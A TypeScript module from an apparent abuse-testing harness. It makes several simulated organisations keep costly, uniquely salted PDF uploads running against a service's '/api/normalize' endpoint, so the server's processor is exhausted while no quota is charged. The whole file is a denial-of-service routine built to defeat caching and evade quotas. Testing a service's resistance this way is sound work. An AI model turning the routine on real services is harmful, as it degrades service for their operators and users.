/** Organizations that always have a document under way and others that wait; each burns the processor and costs them no unit. */
import { randomUUID } from 'node:crypto';
import { headersOf, startAttempts, type StartAttack } from './attack.ts';
import { costlyDocument } from './costly-document.ts';

/** One more than the plan has under way, so that the next one does not depend on a call that may be refused. */
const DOCUMENTS = 2;
/** Each document has other bytes in its place: to build one anew would take the processor from the service. */
const SALT = randomUUID();

export const sendCostlyDocuments: StartAttack = async (url, attackers) => {
  const attempts = startAttempts();
  for (const [index, attacker] of attackers.entries()) {
    const headers = { ...headersOf(attacker, index), 'Content-Type': 'application/pdf' };
    const document = Buffer.from(costlyDocument(SALT));
    const send = () => {
      const body = Buffer.from(document);
      body.write(randomUUID(), body.lastIndexOf(SALT));
      return attempts.post('costly document', `${url}/api/normalize`, headers, body);
    };
    for (let at = 0; at < DOCUMENTS; at++) attempts.again(send);
  }
  return { held: () => 'costly documents are under way', answers: attempts.answers };
};
